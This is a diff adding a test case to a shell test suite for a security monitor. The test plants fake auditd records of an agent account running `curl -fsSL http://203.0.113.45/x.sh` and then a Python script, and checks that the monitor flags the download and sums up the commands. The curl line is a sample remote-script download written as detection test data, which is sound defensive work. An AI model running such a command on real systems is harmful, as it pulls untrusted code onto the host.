@@ -171,4 +171,26 @@ check "... root's connection is not" \
 monitor_keyed --json >"$tmp/out2.jsonl" 2>&1 || true
 check "... once" jq_quiet -s -e 'all(.[]; .id != "monitor/new-outbound")' "$tmp/out2.jsonl"
 
+# --- what the agent ran (auditd's log, svcacct's audit rules) --------------------------
+mkdir -p "$r/var/log/audit"
+: >"$r/var/log/audit/audit.log"
+monitor_keyed --json >/dev/null 2>&1 || true
+sleep 1
+t=$(date +%s)
+{
+    printf 'type=SYSCALL msg=audit(%s.100:901): arch=c000003e syscall=59 success=yes exit=0 uid=%s comm="curl" exe="/usr/bin/curl" key="hardkit-agent-exec"\n' "$t" "$agent_uid"
+    printf 'type=EXECVE msg=audit(%s.100:901): argc=3 a0="curl" a1="-fsSL" a2="http://203.0.113.45/x.sh"\n' "$t"
+    printf 'type=PROCTITLE msg=audit(%s.100:901): proctitle=6375726C\n' "$t"
+    printf 'type=SYSCALL msg=audit(%s.200:902): arch=c000003e syscall=59 success=yes exit=0 uid=%s comm="python3" exe="/usr/bin/python3.11" key="hardkit-agent-exec"\n' "$t" "$agent_uid"
+    printf 'type=EXECVE msg=audit(%s.200:902): argc=2 a0="python3" a1="/var/lib/agent/app/loop.py"\n' "$t"
+    printf 'type=PROCTITLE msg=audit(%s.200:902): proctitle=707974686F6E33\n' "$t"
+} >>"$r/var/log/audit/audit.log"
+monitor_keyed --json >"$tmp/audit1.jsonl" 2>&1 || true
+check "the agent's download through curl is a finding (auditd's log)" \
+    has "$tmp/audit1.jsonl" '.type == "finding" and .id == "logscan/agent-download" and (.title | contains("http://203.0.113.45/x.sh"))'
+check "... and its commands are summed up (curl, python3.11)" \
+    has "$tmp/audit1.jsonl" '.type == "finding" and .id == "monitor/agent-commands" and (.title | startswith("agent ran 2 command(s)")) and (.detail | contains("curl (1)"))'
+monitor_keyed --json >"$tmp/audit2.jsonl" 2>&1 || true
+check "... once: the next run reads from there on" jq_quiet -s -e 'all(.[]; .id != "logscan/agent-download")' "$tmp/audit2.jsonl"
+
 finish monitor
